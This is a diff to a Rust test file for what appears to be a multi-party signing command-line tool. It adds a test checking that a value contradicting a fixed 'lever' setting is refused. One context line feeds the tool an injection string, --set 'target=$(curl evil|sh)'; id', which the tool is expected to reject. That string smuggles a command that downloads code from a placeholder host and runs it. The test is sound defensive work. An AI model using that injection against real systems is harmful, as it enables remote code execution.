@@ -261,6 +261,17 @@ fn an_open_argument_is_said_by_every_signer() {
     bob_refuses(bob, &evil, &[], 4, &[r"--set 'target=$(curl evil|sh)'\''; id'"]);
 }
 
+/// What the lever fixes is not signed for whoever says another value, from a file as little as by the lever.
+#[test]
+fn a_value_said_against_the_lever_is_not_passed_over() {
+    let ceremony = two_of_three();
+    let (bob, good) = handed(&ceremony);
+    let set = format!("target={STRANGER}");
+    bob_refuses(bob, &good, &["--set", &set], 4, &["lever vault fixes target to", STRANGER]);
+    refused(try_sign(bob, &["vault", "--set", &set]), 2, &["lever vault fixes target to", STRANGER]);
+    try_sign(bob, &[&hand_over(bob, &good), "--set", "target=vault"]).ended(0);
+}
+
 /// In a narrow terminal a long text would be broken by the terminal, and its rest would look like a line of ours.
 #[test]
 fn in_a_narrow_terminal_no_text_of_a_strangers_begins_a_line() {
